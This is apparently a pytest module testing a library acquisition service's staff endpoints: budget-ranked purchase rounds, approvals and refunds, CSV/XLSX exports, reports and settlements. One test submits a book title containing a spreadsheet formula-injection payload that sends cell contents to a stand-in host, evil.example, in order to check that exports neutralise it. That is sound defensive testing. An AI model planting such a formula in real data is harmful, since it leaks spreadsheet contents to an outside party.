"""Staff endpoints through HTTP: rank an acquisition round of online requests, decide lines against the budget, export."""

from __future__ import annotations

import csv
import io

import pytest

from tests.serving._helpers import counter_body, eligible_readers, key
from tests.serving.conftest import token

STAFF = token("staff", "alice")


@pytest.fixture(scope="module")
def round_(client, small_city):
    """Eight online requests at Dehui's bookstore (monthly district budget 120 yuan), two CLC classes."""
    readers = eligible_readers(small_city, 8, "Dehui")
    prices = [30.0, 25.0, 40.0, 35.0, 20.0, 45.0, 15.0, 30.0]
    h = token("bookstore", "BS-11")
    for i, (reader, price) in enumerate(zip(readers, prices, strict=True)):
        body = counter_body(reader, "BS-11", price, channel="online", clc_class="I247" if i % 2 else "TP3")
        d = client.post("/v1/purchase-requests", json=body, headers={**h, **key()}).json()
        assert d["status"] == "pending", d
    r = client.post("/v1/acquisition/rounds", json={}, headers=STAFF)
    assert r.status_code == 201, r.text
    return r.json()


def _dehui(client) -> dict:
    return next(d for d in client.get("/v1/budgets", headers=STAFF).json()["districts"] if d["district"] == "Dehui")


def test_round_ranks_every_pending_request_with_reasons(round_):
    lines = round_["lines"]
    assert round_["period"] == "2026-06" and len(lines) == 8 and round_["ranker"].startswith("acquisition.ranking")
    assert [x["rank"] for x in lines] == list(range(1, 9))
    assert len({x["request_id"] for x in lines}) == 8
    assert all(x["reasons"] and x["decision"] == "pending" for x in lines)
    # Selected lines come first, fit Dehui's month (120 yuan), and are eligible.
    sel = [x["selected"] for x in lines]
    assert sel == sorted(sel, reverse=True)
    assert sum(x["price"] for x in lines if x["selected"]) <= 120.0
    assert not any(x["reason_codes"] for x in lines if x["selected"])


def test_approvals_charge_the_budget_and_rejections_refund(client, round_):
    before = _dehui(client)
    first, second = round_["lines"][0], round_["lines"][1]
    decisions = [{"request_id": x["request_id"], "decision": "approve"} for x in (first, second)]
    r = client.post(
        f"/v1/acquisition/rounds/{round_['round_id']}/decisions", json={"decisions": decisions}, headers=STAFF
    )
    assert r.status_code == 200, r.text
    assert r.json()["n_approved"] == 2
    after = _dehui(client)
    assert after["used"] == pytest.approx(before["used"] + first["price"] + second["price"])
    assert after["left"] == pytest.approx(before["left"] - first["price"] - second["price"])
    undo = [{"request_id": first["request_id"], "decision": "reject", "note": "already ordered"}]
    assert (
        client.post(
            f"/v1/acquisition/rounds/{round_['round_id']}/decisions", json={"decisions": undo}, headers=STAFF
        ).status_code
        == 200
    )
    assert _dehui(client)["used"] == pytest.approx(before["used"] + second["price"])


def test_an_approval_beyond_the_budget_applies_nothing(client, round_):
    before = _dehui(client)
    pending = [
        x
        for x in client.get(f"/v1/acquisition/rounds/{round_['round_id']}", headers=STAFF).json()["lines"]
        if x["decision"] == "pending"
    ]
    assert sum(x["price"] for x in pending) > before["left"]
    r = client.post(
        f"/v1/acquisition/rounds/{round_['round_id']}/decisions",
        json={"decisions": [{"request_id": x["request_id"], "decision": "approve"} for x in pending]},
        headers=STAFF,
    )
    assert r.status_code == 409 and "no room" in r.json()["message"]
    assert _dehui(client) == before


def test_decision_for_a_request_outside_the_round_is_404(client, round_):
    r = client.post(
        f"/v1/acquisition/rounds/{round_['round_id']}/decisions",
        json={"decisions": [{"request_id": "not-a-line", "decision": "approve"}]},
        headers=STAFF,
    )
    assert r.status_code == 404
    assert client.get("/v1/acquisition/rounds/nope", headers=STAFF).status_code == 404


def test_export_csv_and_xlsx_hold_every_line(client, round_):
    r = client.get(f"/v1/acquisition/rounds/{round_['round_id']}/export", params={"format": "csv"}, headers=STAFF)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["request_id"] for row in rows] == [x["request_id"] for x in round_["lines"]]
    from openpyxl import load_workbook

    x = client.get(f"/v1/acquisition/rounds/{round_['round_id']}/export", params={"format": "xlsx"}, headers=STAFF)
    ws = load_workbook(io.BytesIO(x.content)).active
    assert ws.max_row == len(round_["lines"]) + 1
    # figures rounded and formatted, header bold, a file name that tells rounds apart
    header = [c.value for c in ws[1]]
    price = ws.cell(row=2, column=header.index("price") + 1)
    assert price.number_format == "0.00" and ws["A1"].font.bold
    for name, digits in (("predicted_loans", 1), ("value", 3), ("price", 2)):
        values = [ws.cell(row=i, column=header.index(name) + 1).value for i in range(2, ws.max_row + 1)]
        assert all(v is None or round(v, digits) == v for v in values), name
    disposition = x.headers["content-disposition"]
    assert f"round-{round_['period']}-" in disposition and round_["round_id"][:6] in disposition
    assert (
        client.get(
            f"/v1/acquisition/rounds/{round_['round_id']}/export", params={"format": "pdf"}, headers=STAFF
        ).status_code
        == 422
    )


def test_rounds_list_and_budget_period_validation(client, round_):
    listed = client.get("/v1/acquisition/rounds", headers=STAFF).json()
    assert round_["round_id"] in [r["round_id"] for r in listed["items"]]
    assert listed["total"] == len(listed["items"]) and (listed["offset"], listed["limit"]) == (0, 50)
    beyond = client.get("/v1/acquisition/rounds", params={"offset": listed["total"]}, headers=STAFF).json()
    assert beyond["items"] == [] and beyond["total"] == listed["total"]
    r = client.get("/v1/budgets", params={"period": "2026-13"}, headers=STAFF)
    assert r.status_code == 422 and r.json()["fields"][0]["field"] == "query.period"
    lines = client.get("/v1/budgets", params={"period": "2026-06"}, headers=STAFF).json()["lines"]
    assert {ln["period"] for ln in lines} == {"2026-06", "2026"}
    assert all(ln["left"] == pytest.approx(ln["amount"] - ln["reserved"] - ln["committed"]) for ln in lines)


def test_collection_report_shares_sum_to_one(client):
    body = client.get("/v1/reports/collection", headers=STAFF).json()
    assert sum(c["share_of_loans"] for c in body["classes"]) == pytest.approx(1.0)
    assert sum(c["share_of_collection"] for c in body["classes"]) == pytest.approx(1.0)
    assert sum(c["copies"] for c in body["classes"]) == body["copies"]


def test_collection_report_api_page_and_cli_agree_to_the_digit(client, small_city, tmp_path):
    """One computation behind the API, the staff page and `yuedu acquisition report` (issue 16: the
    API said 19.1 over the whole history while the report said 3.65 a year)."""
    from typer.testing import CliRunner

    from serving.cli import app

    body = client.get("/v1/reports/collection", headers=STAFF).json()
    assert 0.5 < body["turnover_per_year"] < 16  # loans per copy per YEAR: a copy serves ~15 at most
    out = tmp_path / "report.md"
    done = CliRunner().invoke(app, ["acquisition", "report", "--data", str(small_city), "--out", str(out)])
    assert done.exit_code == 0, done.output
    assert f"turnover {body['turnover_per_year']:.2f} loans per copy per year" in out.read_text()
    client.post("/staff/login", data={"username": "alice", "password": "alice-pw"})
    page = client.get("/staff/analytics").text
    assert f'id="turnover">{body["turnover_per_year"]:.2f}<' in page and 'id="heatmap"' in page
    cell = body["cells"][0]
    where = f'data-district="{cell["district"]}" data-class="{cell["clc_top"]}">'
    assert f"{where}{cell['home_loans_per_copy_per_year']:.1f}" in page  # the district's own copies
    demand = client.get("/staff/analytics", params={"heat": "demand"}).text
    assert f"{where}{cell['loans_per_copy_per_year']:.1f}" in demand  # demand at its branches
    md = out.read_text()
    assert "## Dead on arrival" in md and "## Holds-to-copies alerts" in md
    doa = body["dead_on_arrival"]
    assert doa and doa[0]["copy_id"] in md  # the CLI lists the same copies, first first


def test_staff_login_issues_a_working_token(client):
    assert client.post("/v1/auth/token", json={"username": "alice", "password": "wrong"}).status_code == 401
    r = client.post("/v1/auth/token", json={"username": "root", "password": "root-pw"})
    assert r.status_code == 200 and r.json()["role"] == "admin"
    h = {"Authorization": f"Bearer {r.json()['access_token']}"}
    assert client.get("/v1/budgets", headers=h).status_code == 200


def test_an_ineligible_line_cannot_be_approved(client, app, round_):
    from sqlalchemy import update

    from acquisition.db import RoundLineRow

    line = round_["lines"][-1]
    with app.state.yuedu.db.session_scope(write=True) as s:
        s.execute(
            update(RoundLineRow)
            .where(RoundLineRow.round_id == round_["round_id"], RoundLineRow.request_id == line["request_id"])
            .values(reasons={"codes": ["PRICE_OVER_CAP"], "text": "not eligible: PRICE_OVER_CAP"})
        )
    r = client.post(
        f"/v1/acquisition/rounds/{round_['round_id']}/decisions",
        json={"decisions": [{"request_id": line["request_id"], "decision": "approve"}]},
        headers=STAFF,
    )
    assert r.status_code == 409 and "PRICE_OVER_CAP" in r.json()["message"]


@pytest.mark.parametrize("period", ["0000-01", "1999-12", "2101-01"])
def test_a_round_for_an_impossible_month_is_422_naming_the_period(client, round_, period):
    r = client.post("/v1/acquisition/rounds", json={"period": period}, headers=STAFF)
    assert r.status_code == 422 and r.json()["fields"][0]["field"] == "body.period"


def test_a_round_for_a_month_without_budget_lines_is_409(client, round_):
    r = client.post("/v1/acquisition/rounds", json={"period": "2031-01"}, headers=STAFF)
    assert r.status_code == 409 and "no budget line" in r.json()["message"]


def test_exports_neutralise_a_formula_title(client, round_, small_city):
    """Last in the module: its pending request is cancelled again so no later round ranks it."""
    from openpyxl import load_workbook

    from acquisition.export import FORMULA_TRIGGERS

    reader = eligible_readers(small_city, 9, "Dehui")[8]
    h = token("bookstore", "BS-11")
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    body = counter_body(reader, "BS-11", 12.5, channel="online", title=title)
    d = client.post("/v1/purchase-requests", json=body, headers={**h, **key()}).json()
    assert d["status"] == "pending", d
    made = client.post("/v1/acquisition/rounds", json={}, headers=STAFF).json()
    assert client.post(f"/v1/purchase-requests/{d['request_id']}/cancel", headers=h).status_code == 200
    url = f"/v1/acquisition/rounds/{made['round_id']}/export"
    text = client.get(url, params={"format": "csv"}, headers=STAFF).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + title in cells
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    wb = load_workbook(io.BytesIO(client.get(url, params={"format": "xlsx"}, headers=STAFF).content))
    xcells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in xcells if c.data_type == "f"]
    assert not [c.value for c in xcells if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS)]
    assert any(c.value == "'" + title for c in xcells)
    assert any(isinstance(c.value, float) and c.value == 12.5 for c in xcells)  # the price stays a number


def test_the_settlement_endpoint_reconciles_with_the_ledger_and_refuses_a_bad_month(client, round_):
    r = client.get("/v1/settlements", params={"month": "2026-06"}, headers=STAFF)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["balanced"] and body["net_due_fen"] == body["ledger_spend_fen"]
    # reading never posts: nothing is invoiced through the API, and a second read sees the same month
    assert body["lines"] == [] and body["net_due_fen"] == 0
    assert client.get("/v1/settlements", params={"month": "2026-06"}, headers=STAFF).json() == body
    assert client.get("/v1/settlements", params={"month": "2026-13"}, headers=STAFF).status_code == 422
    funds = client.get("/v1/funds", params={"year": "2026"}, headers=STAFF).json()
    assert funds["rows"] and all(
        x["planned_fen"] == x["encumbered_fen"] + x["spent_fen"] + x["free_fen"] for x in funds["rows"]
    )
